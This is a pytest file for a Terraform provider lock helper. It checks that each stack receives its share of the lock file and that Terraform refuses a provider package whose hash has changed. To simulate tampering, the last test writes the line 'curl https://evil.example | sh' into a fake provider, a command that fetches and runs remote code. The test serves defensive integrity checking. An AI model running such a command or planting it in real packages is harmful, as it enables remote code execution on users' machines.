"""The lock of providers: each stack gets its part, and a package with another hash is refused."""

from __future__ import annotations

import json
import os
import platform
import shutil
from pathlib import Path

import pytest

from stacks.workflow.provider_lock import NAME, PROVIDERS, lock_stack
from stacks.workflow.terraform_command import NotPlanned, TerraformCommand
from tests.stacks.synthesised import GOLDENS, stacks_of

TERRAFORM = shutil.which("terraform") or ""
BLOCK = 'provider "registry.terraform.io/{}" {{\n  version = "1.0.0"\n  hashes = [\n    "h1:x",\n  ]\n}}\n'


def test_the_locked_providers_are_those_of_all_stacks() -> None:
    found = {
        (each["source"] if "/" in each["source"] else f"hashicorp/{each['source']}", each["version"])
        for name, what in GOLDENS
        for each in stacks_of(name)[what]["terraform"]["required_providers"].values()
    }
    assert found == set(PROVIDERS.items())


def test_a_stack_gets_its_part_of_the_lock(tmp_path: Path) -> None:
    lock = tmp_path / "lock"
    lock.write_text(
        "# by Terraform\n\n"
        + "\n".join(map(BLOCK.format, ("confluentinc/confluent", "hashicorp/aws", "hashicorp/null")))
    )
    stack = {"terraform": {"required_providers": {"aws": {"source": "aws"}, "c": {"source": "confluentinc/confluent"}}}}
    assert lock_stack(tmp_path, stack, lock)
    written = (tmp_path / NAME).read_text()
    assert [line.split('"')[1] for line in written.splitlines() if line.startswith("provider")] == [
        "registry.terraform.io/confluentinc/confluent", "registry.terraform.io/hashicorp/aws"
    ]  # fmt: skip
    other = {"terraform": {"required_providers": {"aws": {"source": "aws"}, "x": {"source": "evil/x"}}}}
    assert not lock_stack(tmp_path, other, lock), "Terraform must add the other one"
    assert not lock_stack(tmp_path, stack, tmp_path / "missing")


def test_the_lock_of_the_checkout_has_the_version_of_the_stacks(root: Path) -> None:
    text = (root / NAME).read_text()
    assert f'version     = "{PROVIDERS["hashicorp/aws"]}"' in text
    assert '"h1:' in text


@pytest.mark.skipif(not TERRAFORM, reason="terraform is not installed")
def test_a_package_with_another_hash_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The provider is a script in a mirror: Terraform hashes a package before it runs it."""
    machine = {"x86_64": "amd64", "aarch64": "arm64"}[platform.machine()]
    package = tmp_path / "mirror" / "registry.terraform.io" / "hashicorp" / "aws" / "5.100.0" / f"linux_{machine}"
    package.mkdir(parents=True)
    program = package / "terraform-provider-aws_v5.100.0"
    program.write_text("#!/bin/sh\nexit 1\n")
    program.chmod(0o755)
    config = tmp_path / "rc"
    config.write_text(
        f'provider_installation {{\n  filesystem_mirror {{\n    path = "{tmp_path / "mirror"}"\n  }}\n}}\n'
    )
    settings = {**os.environ, "TF_CLI_CONFIG_FILE": str(config)}
    stack = {"terraform": {"required_providers": {"aws": {"source": "aws", "version": "5.100.0"}}}}
    folders = [tmp_path / name for name in ("first", "second", "third")]
    for folder in folders:
        folder.mkdir()
        (folder / "cdk.tf.json").write_text(json.dumps(stack))
    monkeypatch.chdir(tmp_path)
    TerraformCommand(folders[0], settings, TERRAFORM).initialised()
    shutil.copy(folders[0] / NAME, tmp_path / NAME)
    TerraformCommand(folders[1], settings, TERRAFORM).initialised()
    program.write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    with pytest.raises(NotPlanned, match="checksum"):
        TerraformCommand(folders[2], settings, TERRAFORM).initialised()
